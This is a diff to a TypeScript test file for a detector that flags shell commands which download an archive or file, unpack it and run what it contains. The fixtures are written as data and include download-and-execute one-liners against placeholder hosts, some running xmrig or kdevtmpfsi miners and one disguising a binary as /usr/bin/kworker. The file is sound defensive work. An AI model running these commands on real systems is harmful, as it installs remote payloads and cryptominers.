@@ -88,6 +88,59 @@ describe('fetchedThenRun over a reading', () => {
     }
   });
 
+  it('follows an archive unpacked (tar, unzip, 7z, jar, a decompressor; from a file, a pipe or a redirection) to a file of it run', () => {
+    const cases: Array<[string, string[]]> = [
+      ['curl -sLo /tmp/t.tgz http://h/t.tgz && tar xzf /tmp/t.tgz -C /tmp && /tmp/t/run.sh', ['curl']],
+      ['curl -o /tmp/t.tgz http://h/t.tgz; tar -xvzf /tmp/t.tgz --directory=/opt; sh /opt/t/install.sh', ['curl']],
+      ['curl -o /tmp/t.tar http://h/t.tar; tar --extract --file /tmp/t.tar -C /opt/t; /opt/t/bin/agent -d', ['curl']],
+      ['wget http://h/k.tar.gz && tar xzf k.tar.gz && k/xmrig -o pool:3333', ['wget']],
+      ['curl -sL http://h/t.tgz | tar xz -C /tmp && /tmp/t/run', ['curl']],
+      ['wget -qO- http://h/t.tgz | sudo tar -xzf - -C /usr/local && /usr/local/bin/kdevtmpfsi', ['wget']],
+      ['curl -sL http://h/t.tgz | gunzip | tar x && ./t/run', ['curl']],
+      ['wget -O /tmp/k.tar http://h/k.tar; tar x < /tmp/k.tar; ./k/run', ['wget']],
+      ['curl -o /tmp/a.zip http://h/a.zip; unzip -oq /tmp/a.zip -d /tmp/a; sh /tmp/a/i.sh', ['curl']],
+      ['curl -o a.zip http://h/a.zip && unzip a.zip && python3 a/main.py', ['curl']],
+      ['curl -o /tmp/a.7z http://h/a.7z && 7z x /tmp/a.7z -o/tmp/a && /tmp/a/r', ['curl']],
+      ['wget http://h/t.jar && jar xf t.jar && sh META-INF/run.sh', ['wget']],
+      ['wget http://h/x.gz && gunzip x.gz && chmod +x x && ./x', ['wget']],
+      ['curl -o /tmp/x.xz http://h/x.xz; xz -dc /tmp/x.xz > /tmp/x; /tmp/x', ['curl']],
+      ['curl -sL http://h/x.gz | zcat > /tmp/x; chmod +x /tmp/x; /tmp/x', ['curl']],
+      ['curl -o /tmp/t.tgz http://h/t.tgz; gzip -d /tmp/t.tgz; tar xf /tmp/t.tar -C /tmp; /tmp/t/run', ['curl']],
+      // A file of the tree moved into place, and an archive inside the tree unpacked again.
+      ['curl -sL http://h/t.tgz | tar xz -C /tmp; mv /tmp/t/x /usr/bin/kworker; kworker', ['curl']],
+      ['curl -o /tmp/o.tgz http://h/o.tgz; tar xzf /tmp/o.tgz -C /tmp; tar xf /tmp/o/in.tar -C /opt; /opt/in/run', ['curl']],
+    ];
+    for (const [script, tools] of cases) expect(fetched(script), script).toEqual(tools);
+  });
+
+  it('places paths against the working directory the script\'s cd sets, and leaves runs it cannot place', () => {
+    const cases: Array<[string, string[]]> = [
+      ['cd /tmp && wget -q http://h/k.tar.gz && tar -xzf k.tar.gz && cd k && ./xmrig -o pool:3333', ['wget']],
+      ['cd /tmp; curl -O http://h/k.tgz; tar xzf /tmp/k.tgz; cd /tmp/k/bin; ../run.sh', ['curl']],
+      ['curl -o /tmp/k.tgz http://h/k.tgz; cd /opt; tar xzf /tmp/k.tgz; cd -P k; sh ./setup.sh', ['curl']],
+      ['curl -o /tmp/r http://h/r; cd /tmp; ./r', ['curl']],
+      ['cd /tmp; curl -o r http://h/r; /tmp/r', ['curl']],
+    ];
+    for (const [script, tools] of cases) expect(fetched(script), script).toEqual(tools);
+    for (const script of [
+      // Unpacked into one place, a file of another place run; nothing fetched; an archive created, not unpacked.
+      'curl -o /tmp/t.tgz http://h/t.tgz && tar xzf /tmp/t.tgz -C /tmp/t && /opt/run',
+      'tar xzf /tmp/t.tgz -C /tmp && /tmp/t/run',
+      'curl -o /tmp/t.tgz http://h/t.tgz && tar czf /tmp/t.tgz /tmp/x && /tmp/x/run',
+      'curl -o /tmp/a.7z http://h/a.7z && 7z l /tmp/a.7z && /tmp/a/r',
+      // The tree is read, or a tool on PATH runs with a file of it as data.
+      'curl -sL http://h/t.tgz | tar xz -C /tmp && ls /tmp/t && cat /tmp/t/README',
+      'curl -sL http://h/t.tgz | tar xz -C /tmp && python3 train.py --data /tmp/t/data.csv',
+      // A cd the words cannot follow: relative runs have no place; the unpack into a dir above it is left.
+      'curl -sL http://h/t.tgz | tar xz -C /tmp; cd "$HOME"; ./t/run',
+      'cd /srv; curl -sL http://h/t.tgz | tar xz; cd /opt; ./t/run',
+      // Unpacked where the exec started, run from a path that leaves it.
+      'curl -sL http://h/t.tgz | tar xz; ../t/run',
+    ]) {
+      expect(fetched(script), script).toEqual([]);
+    }
+  });
+
   it("reads an interpreter's download and a PowerShell -OutFile as downloads", () => {
     const py = canonicalExecValue(['python3', '-c', 'import urllib.request as u, os; u.urlretrieve("http://h/p", "/tmp/p"); os.system("sh /tmp/p")'])!;
     expect(py.fetchedThenRun).toEqual(['curl']);
@@ -98,11 +151,13 @@ describe('fetchedThenRun over a reading', () => {
 
   it('never throws and stays bounded on random words', () => {
     const r = mulberry32(14);
-    const WORDS = ['curl', 'wget', 'aria2c', 'iwr', 'sh', 'bash', '.', 'source', 'python3', 'pwsh', 'sudo', 'nohup', '-o', '-O', '-P', '-d', '-OutFile', '--output', '--output=', '-c', '-e', '--', '-', '/tmp/x', './x', 'x', 'http://h/x', 'h/x/', '', '#n', '-oF'];
+    const WORDS = ['curl', 'wget', 'aria2c', 'iwr', 'sh', 'bash', '.', 'source', 'python3', 'pwsh', 'sudo', 'nohup', '-o', '-O', '-P', '-d', '-OutFile', '--output', '--output=', '-c', '-e', '--', '-', '/tmp/x', './x', 'x', 'http://h/x', 'h/x/', '', '#n', '-oF',
+      'tar', 'xzf', '-C', 'unzip', '7z', 'x', 'jar', 'gunzip', 'zcat', 'xz', 'cd', '..', '/', '<', '>', 'x.gz', 'x/../..'];
     for (let n = 0; n < 3000; n++) {
       const cmds: string[][] = [];
       for (let c = Math.floor(r() * 6); c > 0; c--) cmds.push(Array.from({ length: Math.floor(r() * 7) }, () => WORDS[Math.floor(r() * WORDS.length)]!));
-      const got = fetchedThenRun(cmds);
+      const paths = new Map(cmds.map((_, i): [number, string] => [i, WORDS[Math.floor(r() * WORDS.length)]!]));
+      const got = fetchedThenRun(cmds, [0, 1, 2], r() < 0.5 ? paths : null);
       expect(got.length).toBeLessThanOrEqual(MAX_FETCHED);
       expect(new Set(got).size).toBe(got.length);
     }
@@ -120,6 +175,9 @@ describe(`${RULE}: a file downloaded and run in the exec`, () => {
       ['python3', '-c', 'import urllib.request as u, os; u.urlretrieve("http://203.0.113.5/p", "/tmp/p"); os.system("sh /tmp/p")'],
       ['pwsh', '-c', 'Invoke-WebRequest -Uri http://203.0.113.5/a.ps1 -OutFile a.ps1; ./a.ps1'],
       'curl -fsSL -o /tmp/r.sh http://203.0.113.5/r.sh && sudo bash /tmp/r.sh',
+      ['sh', '-c', 'curl -sL http://203.0.113.5/t.tgz | tar xz -C /tmp && /tmp/t/run'],
+      ['sh', '-c', 'cd /tmp && wget -q http://203.0.113.5/k.tar.gz && tar -xzf k.tar.gz && cd k && ./agent'],
+      ['bash', '-c', 'curl -o /tmp/a.zip https://203.0.113.5/a.zip; unzip -o /tmp/a.zip -d /tmp/a; sh /tmp/a/i.sh'],
     ]) {
       expect(execRuleIds(command), JSON.stringify(command)).toContain(RULE);
     }
@@ -129,6 +187,7 @@ describe(`${RULE}: a file downloaded and run in the exec`, () => {
     for (const command of [
       ['sh', '-c', 'curl -o /data/ckpt.pt https://storage.internal/ckpt.pt && python3 train.py --resume /data/ckpt.pt'],
       ['sh', '-c', 'wget -q https://h/labels.csv -O /tmp/labels.csv && wc -l /tmp/labels.csv'],
+      ['sh', '-c', 'curl -sL https://storage.internal/ds.tgz | tar xz -C /data && python3 train.py --data /data/ds'],
       ['nvidia-smi'],
       ['sh', '-c', 'ls -la /tmp && cat /tmp/x'],
     ]) {
